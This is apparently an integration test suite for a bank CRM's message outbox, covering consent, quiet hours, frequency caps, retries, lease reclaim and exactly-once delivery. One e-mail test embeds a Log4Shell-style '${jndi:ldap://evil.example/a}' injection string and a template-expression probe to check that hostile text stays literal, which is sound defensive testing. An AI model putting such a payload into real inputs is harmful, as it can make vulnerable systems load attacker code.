using System.Net;
using System.Net.Sockets;
using System.Text;
using BankCrm.Core.Consent;
using BankCrm.Core.Engagement.Outreach;
using BankCrm.Data.Engagement.Outreach;
using BankCrm.Integration.Tests.Hosting;
using Microsoft.EntityFrameworkCore;
using MimeKit;
using netDumbster.smtp;

namespace BankCrm.Integration.Tests.Engagement;

/// <summary>The outbox dispatcher over a real database, driven at explicit times: policy at send time, retries, leases, exactly once to the sink.</summary>
public abstract class OutboxDispatchTests(BankCrmApp app)
{
    private readonly OutreachWorld world = new(app);

    [Fact]
    public async Task A_marketing_message_to_a_customer_without_consent_is_blocked_with_the_reason_and_never_reaches_the_sink()
    {
        var customer = await world.CustomerAsync("钟未允");
        var id = await world.EnqueueAsync(customer, ContactChannel.Sms, MessagePurpose.Marketing, OutreachWorld.ChinaAt(2, 10));

        await world.DispatchAsync(OutreachWorld.ChinaAt(2, 10));

        var message = await world.MessageAsync(id);
        Assert.Equal(MessageStatus.Blocked, message.Status);
        Assert.Equal("客户未同意通过短信接收营销信息", message.StatusReason);
        Assert.Empty(await world.SinkAsync(id));
    }

    [Fact]
    public async Task A_message_enqueued_in_quiet_hours_is_deferred_and_goes_out_at_eight()
    {
        var customer = await world.CustomerAsync("钟夜间");
        await world.ConsentAsync(customer, ContactChannel.Sms);
        var id = await world.EnqueueAsync(customer, ContactChannel.Sms, MessagePurpose.Marketing, OutreachWorld.ChinaAt(3, 22, 30));

        await world.DispatchAsync(OutreachWorld.ChinaAt(3, 22, 30));
        var deferred = await world.MessageAsync(id);
        await world.DispatchAsync(OutreachWorld.ChinaAt(4, 7, 59, 59));
        var stillWaiting = await world.MessageAsync(id);
        await world.DispatchAsync(OutreachWorld.ChinaAt(4, 8));

        Assert.Equal(MessageStatus.Pending, deferred.Status);
        Assert.Equal(OutreachWorld.ChinaAt(4, 8), deferred.NextAttemptAt);
        Assert.Contains("免打扰时段", deferred.StatusReason, StringComparison.Ordinal);
        Assert.Equal(MessageStatus.Pending, stillWaiting.Status);
        var sent = await world.MessageAsync(id);
        Assert.Equal(MessageStatus.Sent, sent.Status);
        Assert.Equal(OutreachWorld.ChinaAt(4, 8), sent.SentAt);
        var delivered = Assert.Single(await world.SinkAsync(id));
        Assert.Matches(@"^1\d{2}\*{4}\d{4}$", delivered.MaskedRecipient);
    }

    [Fact]
    public async Task The_third_marketing_message_inside_seven_days_is_blocked_by_the_frequency_cap()
    {
        var customer = await world.CustomerAsync("钟频次");
        await world.ConsentAsync(customer, ContactChannel.Sms);
        var ids = new List<long>();
        for (var day = 0; day < 3; day++)
        {
            ids.Add(await world.EnqueueAsync(customer, ContactChannel.Sms, MessagePurpose.Marketing, OutreachWorld.ChinaAt(5 + day, 10)));
            await world.DispatchAsync(OutreachWorld.ChinaAt(5 + day, 10));
        }

        Assert.Equal(MessageStatus.Sent, (await world.MessageAsync(ids[0])).Status);
        Assert.Equal(MessageStatus.Sent, (await world.MessageAsync(ids[1])).Status);
        var third = await world.MessageAsync(ids[2]);
        Assert.Equal(MessageStatus.Blocked, third.Status);
        Assert.Equal("已达营销频次上限：7 天内最多 2 条", third.StatusReason);
        Assert.Equal(2, (await world.SinkAsync([.. ids])).Count);
    }

    [Fact]
    public async Task A_withdrawal_between_enqueue_and_send_blocks_the_message()
    {
        var customer = await world.CustomerAsync("钟撤回");
        await world.ConsentAsync(customer, ContactChannel.Sms);
        var id = await world.EnqueueAsync(customer, ContactChannel.Sms, MessagePurpose.Marketing, OutreachWorld.ChinaAt(2, 11));

        await world.ConsentAsync(customer, ContactChannel.Sms, granted: false);
        await world.DispatchAsync(OutreachWorld.ChinaAt(2, 11));

        var message = await world.MessageAsync(id);
        Assert.Equal(MessageStatus.Blocked, message.Status);
        Assert.Contains("撤回短信营销同意", message.StatusReason, StringComparison.Ordinal);
        Assert.Empty(await world.SinkAsync(id));
    }

    [Fact]
    public async Task A_failing_channel_retries_with_back_off_ends_as_a_dead_letter_and_resend_delivers_it_once()
    {
        var customer = await world.CustomerAsync("钟重试", email: "retry@example.com");
        var id = await world.EnqueueAsync(customer, ContactChannel.Email, MessagePurpose.Service, OutreachWorld.ChinaAt(6, 9));
        var broken = world.DispatcherWith(new SmtpEmailAdapter(new SmtpSettings { Host = "127.0.0.1", Port = ClosedPort(), UseTls = false, TimeoutSeconds = 5 }));
        var at = OutreachWorld.ChinaAt(6, 9);
        var waits = new List<TimeSpan>();

        for (var attempt = 1; attempt <= 5; attempt++)
        {
            await broken.DispatchDueAsync(at, "node-a", CancellationToken.None);
            var message = await world.MessageAsync(id);
            Assert.Equal(attempt, message.Attempts);
            if (attempt < 5)
            {
                Assert.Equal(MessageStatus.Pending, message.Status);
                waits.Add(message.NextAttemptAt - at);
                Assert.Equal(0, (await broken.DispatchDueAsync(message.NextAttemptAt.AddSeconds(-1), "node-a", CancellationToken.None)).Sent);
                at = message.NextAttemptAt;
            }
        }

        var dead = await world.MessageAsync(id);
        Assert.Equal([TimeSpan.FromMinutes(1), TimeSpan.FromMinutes(5), TimeSpan.FromMinutes(30), TimeSpan.FromHours(2)], waits);
        Assert.Equal(MessageStatus.DeadLetter, dead.Status);
        Assert.StartsWith("发送失败 5 次，已转入死信", dead.StatusReason, StringComparison.Ordinal);
        Assert.DoesNotContain("retry@example.com", dead.StatusReason, StringComparison.Ordinal);

        using var marketing = await app.ClientForAsync("marketing1");
        using var resend = await marketing.PostAsync($"/api/v1/outbox/{id}/resend", content: null);
        Assert.Equal(HttpStatusCode.OK, resend.StatusCode);
        await world.DispatchAsync(OutreachWorld.ChinaAt(30, 10));
        await world.DispatchAsync(OutreachWorld.ChinaAt(30, 11));

        Assert.Equal(MessageStatus.Sent, (await world.MessageAsync(id)).Status);
        var delivered = Assert.Single(await world.SinkAsync(id));
        Assert.Equal("r***@example.com", delivered.MaskedRecipient);
    }

    [Fact]
    public async Task A_message_left_sending_by_a_dead_node_is_reclaimed_when_its_lease_runs_out_and_delivered_once()
    {
        var customer = await world.CustomerAsync("钟宕机");
        var id = await world.EnqueueAsync(customer, ContactChannel.Sms, MessagePurpose.Service, OutreachWorld.ChinaAt(7, 10));
        var killedAt = OutreachWorld.ChinaAt(7, 10);
        await using (var db = app.CreateDbContext())
        {
            // What a node leaves behind when it is killed after claiming and before committing the send.
            await db.OutboundMessages.Where(m => m.Id == id).ExecuteUpdateAsync(s => s
                .SetProperty(m => m.Status, MessageStatus.Sending).SetProperty(m => m.LeaseOwner, "dead-node:claim")
                .SetProperty(m => m.LeaseUntil, killedAt + OutboxDispatcher.DefaultLease));
        }

        await world.DispatchAsync(killedAt.AddMinutes(1), "node-b");
        var whileLeased = await world.MessageAsync(id);
        await world.DispatchAsync(killedAt + OutboxDispatcher.DefaultLease + TimeSpan.FromSeconds(1), "node-b");
        await world.DispatchAsync(killedAt + OutboxDispatcher.DefaultLease + TimeSpan.FromMinutes(1), "node-c");

        Assert.Equal((MessageStatus.Sending, "dead-node:claim"), (whileLeased.Status, whileLeased.LeaseOwner));
        var message = await world.MessageAsync(id);
        Assert.Equal(MessageStatus.Sent, message.Status);
        Assert.Null(message.LeaseOwner);

        // The interrupted try counts (a message that kills its sender every time ends as a dead letter), then the send.
        Assert.Equal(2, message.Attempts);
        var delivered = Assert.Single(await world.SinkAsync(id));
        Assert.Equal("node-b", delivered.DeliveredBy);
    }

    [Fact]
    public async Task Two_dispatchers_running_at_once_deliver_each_of_500_messages_exactly_once_and_keep_the_cap()
    {
        var customers = new List<long>();
        for (var i = 0; i < 10; i++)
        {
            customers.Add(await world.CustomerAsync("钟并" + "甲乙丙丁戊己庚辛壬癸"[i]));
        }

        foreach (var customer in customers.Take(5))
        {
            await world.ConsentAsync(customer, ContactChannel.Sms);
        }

        var at = OutreachWorld.ChinaAt(40, 10);
        var service = new List<long>();
        var marketing = new List<long>();
        for (var i = 0; i < 500; i++)
        {
            // 450 service messages to everyone, and 10 marketing messages to each consented customer (cap: 2 in 7 days).
            var customer = customers[i % customers.Count];
            var isMarketing = i >= 450;
            var id = await world.EnqueueAsync(isMarketing ? customers[i % 5] : customer, ContactChannel.Sms, isMarketing ? MessagePurpose.Marketing : MessagePurpose.Service, at);
            (isMarketing ? marketing : service).Add(id);
        }

        var first = world.DispatcherWith();
        var second = world.DispatcherWith();
        await Task.WhenAll(
            Task.Run(() => first.DispatchDueAsync(at, "node-a", CancellationToken.None, batchSize: 25)),
            Task.Run(() => second.DispatchDueAsync(at, "node-b", CancellationToken.None, batchSize: 25)));

        var delivered = await world.SinkAsync([.. service, .. marketing]);
        Assert.Equal(450 + 10, delivered.Count);
        Assert.Equal(delivered.Count, delivered.Select(d => d.OutboundMessageId).Distinct().Count());
        Assert.All(service, id => Assert.Contains(delivered, d => d.OutboundMessageId == id));
        Assert.All(customers.Take(5), c => Assert.Equal(2, delivered.Count(d => d.CustomerId == c && marketing.Contains(d.OutboundMessageId))));
        await using var db = app.CreateDbContext();
        Assert.Equal(40, await db.OutboundMessages.CountAsync(m => marketing.Contains(m.Id) && m.Status == MessageStatus.Blocked));
        Assert.Equal(450, await db.OutboundMessages.CountAsync(m => service.Contains(m.Id) && m.Status == MessageStatus.Sent));
    }

    [Fact]
    public async Task Email_goes_over_smtp_with_the_subject_and_body_rendered_at_enqueue_and_hostile_text_kept_literal()
    {
        using var smtp = SimpleSmtpServer.Start(FreePort());
        var customer = await world.CustomerAsync("钟邮件", email: "zhong.mail@example.com");
        await world.ConsentAsync(customer, ContactChannel.Email);
        var template = "{{ customer_name }}您好：${jndi:ldap://evil.example/a} @(1+1) 详询 {{ rm_name }}";
        MessageModel model;
        await using (var db = app.CreateDbContext())
        {
            model = await MessageModels.ForCustomerAsync(db, customer, "稳健理财 90 天", null, OutreachWorld.ChinaAt(8, 10), CancellationToken.None);
            Assert.Null(MessageTemplates.Validate(template));
            var body = MessageTemplates.Render(template, model);
            var subject = MessageTemplates.Render("{{ product_name }} 到期提醒", model);
            await OutboxWriter.EnqueueAsync(db, new OutboundRequest("smtp-test:" + customer, customer, ContactChannel.Email, MessagePurpose.Marketing,
                MessageSource.Manual, null, subject, body, OutreachWorld.ChinaAt(8, 10), "test"), OutreachWorld.ChinaAt(8, 10), CancellationToken.None);
        }

        var dispatcher = world.DispatcherWith(new SmtpEmailAdapter(new SmtpSettings { Host = "127.0.0.1", Port = smtp.Configuration.Port, UseTls = false, From = "客户服务 <service@bank.example>" }));
        await dispatcher.DispatchDueAsync(OutreachWorld.ChinaAt(8, 10), "node-a", CancellationToken.None);

        var received = Assert.Single(smtp.ReceivedEmail);
        var mail = MimeMessage.Load(new MemoryStream(Encoding.UTF8.GetBytes(received.Data)));
        Assert.Equal("稳健理财 90 天 到期提醒", mail.Subject);
        Assert.StartsWith("钟", model.CustomerSalutation, StringComparison.Ordinal);
        Assert.Equal(model.CustomerSalutation + "您好：${jndi:ldap://evil.example/a} @(1+1) 详询 李明", mail.TextBody?.Trim());
        Assert.Equal("zhong.mail@example.com", mail.To.Mailboxes.Single().Address);
        await using var check = app.CreateDbContext();
        var message = await check.OutboundMessages.SingleAsync(m => m.IdempotencyKey == "smtp-test:" + customer);
        Assert.Equal(MessageStatus.Sent, message.Status);
        Assert.Equal($"outbox-{message.Id}@bank.example", message.ProviderMessageId);
        Assert.Equal(message.ProviderMessageId, mail.MessageId);
        Assert.Empty(await world.SinkAsync(message.Id));
    }

    [Fact]
    public async Task A_preferred_channel_message_goes_to_the_best_consented_channel_and_sending_lowers_its_score()
    {
        var customer = await world.CustomerAsync("钟首选", email: "pref@example.com");
        await world.ConsentAsync(customer, ContactChannel.Email);
        var id = await world.EnqueueAsync(customer, channel: null, MessagePurpose.Marketing, OutreachWorld.ChinaAt(9, 10));

        await world.DispatchAsync(OutreachWorld.ChinaAt(9, 10));

        // Born in the 1920s: SMS (80) ranks first, but only e-mail (10) is consented.
        var message = await world.MessageAsync(id);
        Assert.Equal(MessageStatus.Sent, message.Status);
        Assert.Equal(ContactChannel.Email, message.Channel);
        await using var db = app.CreateDbContext();
        var learned = await db.ChannelPreferences.SingleAsync(p => p.CustomerId == customer);
        Assert.Equal((ContactChannel.Email, 9, PreferenceSource.Learned), (learned.Channel, learned.Score, learned.Source));
    }

    private static int FreePort()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        return ((IPEndPoint)listener.LocalEndpoint).Port;
    }

    /// <summary>A loopback port nothing listens on: connecting is refused at once, a real delivery failure.</summary>
    private static int ClosedPort() => FreePort();
}

public sealed class OutboxDispatchTestsOnSqlite(SqliteApp app) : OutboxDispatchTests(app), IClassFixture<SqliteApp>;

public sealed class OutboxDispatchTestsOnPostgres(PostgresApp app) : OutboxDispatchTests(app), IClassFixture<PostgresApp>;
